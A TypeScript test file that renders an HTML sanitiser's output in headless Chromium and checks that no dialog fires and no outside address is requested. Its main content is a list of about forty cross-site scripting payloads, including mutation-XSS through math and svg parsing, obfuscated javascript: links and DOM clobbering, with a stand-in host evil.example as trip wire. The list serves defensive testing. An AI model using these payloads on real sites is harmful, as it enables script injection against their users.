/** body.html of hostile pages in a real browser: nothing runs, nothing is asked for but pictures that the page shows itself, and the tree stays as it was parsed. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { cleanHtml } from '../../src/clean/html/html.ts';
import { sanitiseHtml } from '../../src/clean/sanitise.ts';
import { launchChromium } from '../services/chromium.ts';
import { findChromium } from '../services/programs.ts';

/** `alert` and an address of evil.example are the trip wires. */
const attacks: readonly (readonly [name: string, markup: string])[] = [
  ['noscript in a title', '<noscript><p title="</noscript><img src=https://evil.example/1 onerror=alert(1)>">'],
  ['mglyph and style', '<form><math><mtext></form><form><mglyph><style></math><img src=https://evil.example/2 onerror=alert(1)>'],
  ['malignmark', '<math><mtext><malignmark><mi><style><!--</style><img title="--&gt;&lt;/mi&gt;&lt;img src=x onerror=alert(1)&gt;">'],
  ['annotation-xml', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>'],
  ['svg style with a comment', '<svg></p><style><a id="</style><img src=https://ok.example/3.jpg onerror=alert(1)>">'],
  ['svg title and desc', '<svg><title><style><img src=x onerror=alert(1)></style></title><desc><script>alert(1)</script></desc></svg>'],
  ['foreignObject', '<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></p></foreignObject></svg>'],
  ['table in mtext', '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">'],
  ['a set that animates a link', '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">click</text></a></svg>'],
  [
    'xlink:href',
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="java&#x09;script:alert(1)"><text y="9">x</text></a></svg>',
  ],
  ['use of a data address', '<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x"></use></svg>'],
  ['srcset', '<img src="https://ok.example/a.jpg" srcset="https://evil.example/4.jpg 1x, javascript:alert(1) 2x" sizes="100vw">'],
  ['picture sources', '<picture><source srcset="https://evil.example/5.jpg"><img src="x" onerror="alert(1)"></picture>'],
  ['javascript with entities', '<a class=trap href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&colon;alert(1)">x</a>'],
  ['javascript with control characters', '<a class=trap href="\u0001\u0002 j\u000aa\u0009va\u000dscript\u000a:alert(1)">x</a>'],
  ['javascript with a zero width space', '<a class=trap href="java\u200bscript:alert(1)">x</a>'],
  ['javascript behind a comment', '<a class=trap href="javascript://ok.example/%0aalert(1)">x</a>'],
  ['a data address', '<a class=trap href="data:text/html,<script>alert(1)</script>">x</a>'],
  [
    'formaction',
    '<form id=f action="https://evil.example/6"><button formaction="javascript:alert(1)">x</button></form><input form=f type=submit>',
  ],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/7">'],
  ['base', '<base href="javascript:alert(1)//"><a class=trap href="page">x</a><img src="picture.jpg">'],
  [
    'link and preload',
    '<link rel="preload" as="image" href="https://evil.example/9"><link rel=stylesheet href="https://evil.example/10.css">',
  ],
  [
    'CSS',
    '<p style="background:url(https://evil.example/11);width:expression(alert(1));-moz-binding:url(x)">x</p><style>p{background:url(https://evil.example/12)}</style>',
  ],
  ['background', '<table background="https://evil.example/13"><tr><td background="https://evil.example/14">x</td></tr></table>'],
  ['template and shadow root', '<div><template shadowrootmode=open><img src=x onerror=alert(1)><slot></slot></template></div>'],
  ['srcdoc', '<iframe srcdoc="&lt;img src=https://evil.example/15 onerror=alert(1)&gt;"></iframe>'],
  [
    'an attribute that is not closed',
    '<img src="https://ok.example/b.jpg" alt="x onerror=alert(1)><p>x</p><a title="><img src=x onerror=alert(1)>',
  ],
  ['a tag that is not closed', '<p>x<img src=https://ok.example/16.jpg onerror=alert(1) '],
  ['a comment that is not closed', '<!-- <p>x</p> --!><img src=x onerror=alert(1)> <!-'],
  ['CDATA', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><math><![CDATA[</math><script>alert(1)</script>]]></math>'],
  ['textarea, xmp and plaintext', '<textarea><xmp></textarea><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>'],
  ['select and keygen', '<select><style></select><img src=x onerror=alert(1)></style><keygen autofocus onfocus=alert(1)>'],
  ['a frameset', '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>'],
  [
    'object, embed and param',
    '<object data="https://evil.example/17"><param name=src value="https://evil.example/18"><embed src="https://evil.example/19"></object>',
  ],
  [
    'events that need nobody',
    '<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee><input autofocus onfocus=alert(1)>',
  ],
  [
    'video and track',
    '<video autoplay poster="https://evil.example/20"><source src=x onerror=alert(1)><track default src="https://evil.example/21"></video>',
  ],
  ['ping', '<a class=trap href="https://ok.example/" ping="https://evil.example/22" target=_top>x</a>'],
  [
    'clobbering',
    '<form name=body><input name=innerHTML><img name=createElement id=cookie></form><a id=location href="javascript:alert(1)">x</a>',
  ],
  [
    'import map and module',
    '<script type=importmap>{"imports":{"x":"https://evil.example/23"}}</script><script type=module>import "x"</script>',
  ],
  ['nested deeper than the limit', `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>${'</div>'.repeat(600)}`],
];

const executable = findChromium();
const SENTENCE = 'The harbour council met on Tuesday to vote on the new ferry, and the vote was close. ';

describe.runIf(executable !== undefined)('in Chromium', () => {
  let browser: Browser;
  let page: Page;
  let alarms: string[] = [];

  beforeAll(async () => {
    browser = await launchChromium(executable ?? '');
    page = await browser.newPage();
    page.on('dialog', (dialog) => {
      alarms.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    // no network: whatever is asked for is written down and refused
    await page.route('**/*', (route) => {
      const address = route.request().url();
      if (!address.startsWith('https://ok.example/') && !address.startsWith('https://site.example/')) alarms.push(`asked for ${address}`);
      return route.abort();
    });
  }, 120_000);
  afterAll(() => browser.close());

  /** Shows the markup, clicks every link, and answers what went off. `innerHTML` twice: a mutation shows when the tree is written and read again. */
  async function alarmsOf(markup: string): Promise<string[]> {
    alarms = [];
    await page.setContent(`<!doctype html><html><body><main>${markup}</main></body></html>`, { waitUntil: 'commit' });
    const changed = await page.evaluate((inner) => {
      const box = document.createElement('div');
      document.body.append(box);
      box.innerHTML = inner;
      const once = box.innerHTML;
      box.innerHTML = once;
      return box.innerHTML === once ? '' : `${once} became ${box.innerHTML}`;
    }, markup);
    await page.evaluate(() => {
      // a safe link would lead away from the page: only what it would run is of interest
      addEventListener(
        'click',
        (event) => /^https?:|^mailto:/u.test((event.target as HTMLAnchorElement).href ?? '') && event.preventDefault(),
      );
      for (const element of document.querySelectorAll<HTMLElement>('a, button, input, summary, text')) element.click?.();
    });
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 20)));
    return changed === '' ? alarms : [...alarms, changed];
  }

  test('the trip wires work', async () => {
    expect(await alarmsOf('<img src="https://evil.example/0" onerror="alert(1)">')).toEqual(
      expect.arrayContaining(['dialog: 1', 'asked for https://evil.example/0']),
    );
    expect(await alarmsOf('<a href="javascript:alert(2)">x</a>')).toContain('dialog: 2');
  });

  test.each(attacks)('%s', async (_name, attack) => {
    expect(await alarmsOf(sanitiseHtml(attack, 'https://site.example/news/1'))).toEqual([]);
    const html = `<html><body><article><h1>Ferry vote</h1><p>${SENTENCE.repeat(4)}</p><p>${SENTENCE}${attack} ${SENTENCE}</p><p>${SENTENCE.repeat(4)}</p></article></body></html>`;
    const { body } = cleanHtml({ html, url: 'https://site.example/news/1' });
    expect(await alarmsOf(body.html)).toEqual([]);
    expect(body.html).not.toContain('evil.example');
  });
});
